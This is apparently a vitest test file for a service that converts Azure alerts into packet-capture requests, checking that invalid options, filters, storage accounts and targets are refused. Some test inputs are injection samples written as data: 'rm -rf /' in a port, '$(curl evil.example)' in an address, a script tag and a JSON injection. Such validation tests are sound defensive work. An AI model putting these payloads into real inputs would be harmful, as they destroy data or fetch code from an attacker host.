import { describe, expect, it } from 'vitest';
import { interpretAlert } from '../../src/alerts/interpretAlert';
import { MAX_CAPTURE_FILTERS } from '../../src/alerts/options/captureOptions';
import { fixture, SETTINGS, STORAGE_ID, SUB } from './helpers';

function withProperties(properties: Record<string, unknown>) {
  const body = fixture('common-metric-fired');
  body.data.customProperties = properties;
  return interpretAlert(body, SETTINGS);
}

function direct(overrides: Record<string, unknown>) {
  return interpretAlert({ ...fixture('direct-request'), ...overrides }, SETTINGS);
}

const propertyField = (key: string) => `/data/customProperties/${key}`;

describe('capture options from custom properties', () => {
  it('reads numbers given as strings or numbers and leaves unset options unset', () => {
    expect(withProperties({ captureTimeLimitSeconds: '18000', captureBytesPerSession: 1 })).toMatchObject({
      kind: 'capture',
      request: { options: { timeLimitSeconds: 18000, bytesPerSession: 1 } },
    });
    const plain = withProperties({ team: 'netops', captureFilters: '' });
    expect(plain.kind === 'capture' && plain.request.options).toEqual({});
  });

  it('takes an empty filter list as "no filters"', () => {
    expect(withProperties({ captureFilters: '[]' })).toMatchObject({ request: { options: { filters: [] } } });
  });

  it.each<[string, unknown]>([
    ['captureTimeLimitSeconds', '0'],
    ['captureTimeLimitSeconds', '18001'],
    ['captureTimeLimitSeconds', '600.5'],
    ['captureTimeLimitSeconds', '1e3'],
    ['captureTimeLimitSeconds', ' 600'],
    ['captureTimeLimitSeconds', '-1'],
    ['captureTimeLimitSeconds', true],
    ['captureBytesPerPacket', '4294967296'],
    ['captureBytesPerSession', '0'],
    ['captureBytesPerSession', 1.5],
  ])('refuses %s = %j with 400 naming the property', (key, value) => {
    expect(withProperties({ [key]: value })).toMatchObject({
      kind: 'refused',
      problem: { code: 'CAPTURE_OPTION_INVALID', status: 400, field: propertyField(key) },
    });
  });

  it('refuses a misspelt capture option and suggests the right one', () => {
    const decision = withProperties({ CaptureTimeLimitSeconds: '60' });
    expect(decision).toMatchObject({
      kind: 'refused',
      problem: { code: 'CAPTURE_OPTION_INVALID', field: propertyField('CaptureTimeLimitSeconds') },
    });
    expect(decision.kind === 'refused' && decision.problem.detail).toContain(
      'did you mean "captureTimeLimitSeconds"',
    );
  });

  it('lists every problem at once', () => {
    const decision = withProperties({
      captureTimeLimitSeconds: 'soon',
      captureBytesPerPacket: '-5',
      captureFilter: 'x',
    });
    expect(decision.kind === 'refused' && decision.problem.errors?.map((e) => e.field)).toEqual([
      propertyField('captureFilter'),
      propertyField('captureTimeLimitSeconds'),
      propertyField('captureBytesPerPacket'),
    ]);
  });

  it('keeps the detail short when there are many problems, and lists them all in errors', () => {
    const filters = Array.from({ length: MAX_CAPTURE_FILTERS }, () => ({ localPort: 'x', remotePort: 'y' }));
    const decision = withProperties({ captureFilters: JSON.stringify(filters) });
    expect(decision.kind === 'refused' && decision.problem.errors).toHaveLength(2 * MAX_CAPTURE_FILTERS);
    expect(decision.kind === 'refused' && decision.problem.detail).toMatch(/and 35 more in errors/);
  });

  it.each<[string, string]>([
    ['not JSON', '{protocol: TCP}'],
    ['not an array', '{"protocol":"TCP"}'],
    [
      'too many filters',
      JSON.stringify(Array.from({ length: MAX_CAPTURE_FILTERS + 1 }, () => ({ protocol: 'TCP' }))),
    ],
  ])('refuses captureFilters that is %s', (_what, filters) => {
    expect(withProperties({ captureFilters: filters })).toMatchObject({
      problem: { code: 'CAPTURE_OPTION_INVALID', field: propertyField('captureFilters') },
    });
  });

  it.each<[string, Record<string, unknown>]>([
    ['a shell command in a port', { remotePort: '443; rm -rf /' }],
    ['a command substitution in an address', { remoteIPAddress: '$(curl evil.example)' }],
    ['a script in the protocol', { protocol: '<script>alert(1)</script>' }],
    ['a JSON injection in an address', { localIPAddress: '10.0.0.1","target":"/subscriptions/x' }],
    ['a CIDR block', { remoteIPAddress: '10.0.0.0/8' }],
    ['a truncated range', { remoteIPAddress: '1.1.1.1-255.255.255' }],
    ['two ranges', { remotePort: '80-85;90-95' }],
    ['a range inside a list', { remotePort: '22;80-85' }],
    ['a reversed range', { localPort: '443-80' }],
    ['a port out of range', { localPort: '70000' }],
    ['an unknown field', { remoteHost: 'example.com' }],
    ['a nested object', { remotePort: { $gt: 0 } }],
  ])('refuses a filter with %s, naming captureFilters', (_what, filter) => {
    const decision = withProperties({ captureFilters: JSON.stringify([{ protocol: 'TCP' }, filter]) });
    expect(decision).toMatchObject({
      kind: 'refused',
      problem: { code: 'CAPTURE_FILTER_INVALID', status: 400, field: propertyField('captureFilters') },
    });
    expect(decision.kind === 'refused' && decision.problem.errors?.[0]?.detail).toMatch(/^filter 1 /);
  });

  it('reads the options of an AzureMonitorMetricAlert from data.properties', () => {
    const body = fixture('metric-alert-v2-activated');
    body.data.properties = { captureBytesPerPacket: 'all' };
    expect(interpretAlert(body, SETTINGS)).toMatchObject({
      problem: { code: 'CAPTURE_OPTION_INVALID', field: '/data/properties/captureBytesPerPacket' },
    });
  });

  it('ignores options on a resolved alert', () => {
    const body = fixture('common-metric-resolved');
    body.data.customProperties = { captureTimeLimitSeconds: 'never' };
    expect(interpretAlert(body, SETTINGS)).toMatchObject({ kind: 'resolved' });
  });
});

describe('the direct request', () => {
  it('needs only targetVM and takes filters and limits under their Network Watcher names', () => {
    const decision = interpretAlert(
      {
        targetVM: fixture('direct-request').targetVM,
        bytesToCapturePerPacket: 64,
        totalBytesPerSession: '1048576',
        filters: [{ protocol: 'tcp', localPort: '22' }],
      },
      SETTINGS,
    );
    expect(decision.kind === 'capture' && decision.request).toEqual({
      vmId: fixture('direct-request').targetVM,
      options: {
        bytesPerPacket: 64,
        bytesPerSession: 1048576,
        filters: [{ protocol: 'TCP', localPort: '22' }],
      },
      alert: { schema: 'directRequest' },
    });
  });

  it.each<[string, Record<string, unknown>, string, string]>([
    ['an unknown member', { timelimit: 60 }, 'ALERT_SCHEMA_INVALID', '/timelimit'],
    ['a non-string targetVM', { targetVM: 5 }, 'ALERT_SCHEMA_INVALID', '/targetVM'],
    ['a time limit out of range', { timeLimit: 86400 }, 'CAPTURE_OPTION_INVALID', '/timeLimit'],
    ['filters that are not a list', { filters: 'TCP' }, 'CAPTURE_OPTION_INVALID', '/filters'],
    [
      'another subscription',
      { subscriptionId: '99999999-9999-9999-9999-999999999999' },
      'CAPTURE_OPTION_INVALID',
      '/subscriptionId',
    ],
    [
      'a watcher group without a name',
      { networkWatcherName: null },
      'CAPTURE_OPTION_INVALID',
      '/networkWatcherResourceGroup',
    ],
    [
      'a watcher name with a path',
      { networkWatcherName: 'nw/../../x' },
      'CAPTURE_OPTION_INVALID',
      '/networkWatcherName',
    ],
    [
      'a watcher group hiding extra segments',
      { networkWatcherResourceGroup: 'rg/providers/Microsoft.Network/networkWatchers/a/b' },
      'CAPTURE_OPTION_INVALID',
      '/networkWatcherName',
    ],
    [
      'a capture name with a slash',
      { packetCaptureName: 'a/b' },
      'CAPTURE_OPTION_INVALID',
      '/packetCaptureName',
    ],
    [
      'a storage id that is not a storage account',
      { storageID: fixture('direct-request').targetVM },
      'CAPTURE_OPTION_INVALID',
      '/storageID',
    ],
    [
      "someone else's storage account",
      {
        storageID: `/subscriptions/99999999-9999-9999-9999-999999999999/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/exfil`,
      },
      'CAPTURE_STORAGE_NOT_ALLOWED',
      '/storageID',
    ],
  ])('refuses %s', (_what, overrides, code, field) => {
    expect(direct(overrides)).toMatchObject({ kind: 'refused', problem: { code, field } });
  });

  it('refuses a storage account inside the allow-list that is not the configured one, naming the field', () => {
    const storageID = `/subscriptions/${SUB}/resourceGroups/rg-web/providers/Microsoft.Storage/storageAccounts/stweb`;
    expect(direct({ storageID })).toMatchObject({
      kind: 'refused',
      problem: {
        code: 'CAPTURE_OPTION_INVALID',
        status: 400,
        field: '/storageID',
        errors: [{ field: '/storageID', detail: expect.stringContaining('CAPTURE_STORAGE_ACCOUNT_ID') }],
      },
    });
  });

  it('accepts the configured storage account, in any casing', () => {
    expect(direct({ storageID: STORAGE_ID.toUpperCase() })).toMatchObject({
      kind: 'capture',
      request: { storageAccountId: STORAGE_ID },
    });
  });

  it('refuses a target outside the allow-list before looking at the rest', () => {
    const targetVM = `/subscriptions/${SUB}/resourceGroups/rg-db/providers/Microsoft.Compute/virtualMachines/db-01`;
    expect(direct({ targetVM, timeLimit: 'x' })).toMatchObject({
      problem: { code: 'ALERT_TARGET_NOT_ALLOWED', field: '/targetVM' },
    });
  });
});
